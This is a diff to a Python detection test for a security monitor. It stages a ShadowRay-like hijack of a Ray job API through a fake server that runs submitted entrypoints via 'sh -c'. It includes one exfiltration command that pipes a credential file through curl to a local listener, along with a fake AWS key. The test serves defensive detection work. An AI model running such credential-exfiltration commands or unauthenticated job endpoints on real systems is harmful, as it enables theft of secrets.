@@ -10,7 +10,7 @@ import os
 import time
 import urllib.request
 
-from harness import Checks, Scenario, TestFailure, get
+from harness import Checks, Scenario, TestFailure, get, summary, touching
 
 # Ray's dashboard path: one of the default control-plane command lines.
 SERVER = r'''
@@ -18,8 +18,9 @@ import http.server, json, subprocess, sys
 class Jobs(http.server.BaseHTTPRequestHandler):
     def do_POST(self):
         job = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
-        r = subprocess.run(["sh", "-c", job["entrypoint"]], capture_output=True, timeout=30)
-        body = json.dumps({"rc": r.returncode}).encode()
+        p = subprocess.Popen(["sh", "-c", job["entrypoint"]], stdout=subprocess.DEVNULL,
+                             stderr=subprocess.DEVNULL)
+        body = json.dumps({"rc": p.wait(30), "pid": p.pid}).encode()
         self.send_response(200); self.send_header("Content-Length", str(len(body))); self.end_headers()
         self.wfile.write(body)
     def log_message(self, *a):
@@ -38,7 +39,8 @@ def submit(port, entrypoint):
                                  data=json.dumps({"entrypoint": entrypoint}).encode(),
                                  headers={"Content-Type": "application/json"})
     with urllib.request.urlopen(req, timeout=40) as r:
-        return json.loads(r.read())["rc"]
+        doc = json.loads(r.read())
+        return doc["rc"], doc["pid"]
 
 
 def test_shadowray_like_job_is_one_root_incident():
@@ -61,11 +63,8 @@ def test_shadowray_like_job_is_one_root_incident():
                 time.sleep(0.1)
             port = int(open(port_file).read())
             c = Checks("shadowray")
-            c.eq(submit(port, "/usr/bin/python3 %s" % legit), 0, "legit job rc")
-            time.sleep(1.0)
-            legit_alerts = [a for a in sc.mon.read()[0] if get(a, "loader", "pid") == srv.pid]
-            c.true(not legit_alerts, "a legitimate job raised: %s"
-                   % [get(a, "rule", "id") for a in legit_alerts])
+            rc, legit_sh = submit(port, "/usr/bin/python3 %s" % legit)
+            c.eq(rc, 0, "legit job rc")
             evil = "cat %s | curl -s --data-binary @- http://127.0.0.1:%d/" % (cred, lst.port)
             submit(port, evil)
             if not lst.wait(1):
@@ -83,7 +82,10 @@ def test_shadowray_like_job_is_one_root_incident():
         alerts = sc.stop()
         mine = [a for a in alerts if get(a, "loader", "pid") == srv.pid]
         rules = {get(a, "rule", "id") for a in mine}
+        # the hijacked job is the control: the same root, the same shell
         c.true("root-credential-read" in rules, "no root-credential-read alert: %s" % sorted(rules))
+        near = touching(alerts, legit_sh)
+        c.true(not near, "the legitimate job (sh pid %d) raised: %s" % (legit_sh, summary(near)))
         c.true(all(r.startswith("root-") for r in rules),
                "model-loader rules fired for a control-plane job: %s" % sorted(rules))
         c.true(any(b"AKIAFAKEFAKEFAKE0000" in d for d in lst.received), "the listener got no credential")
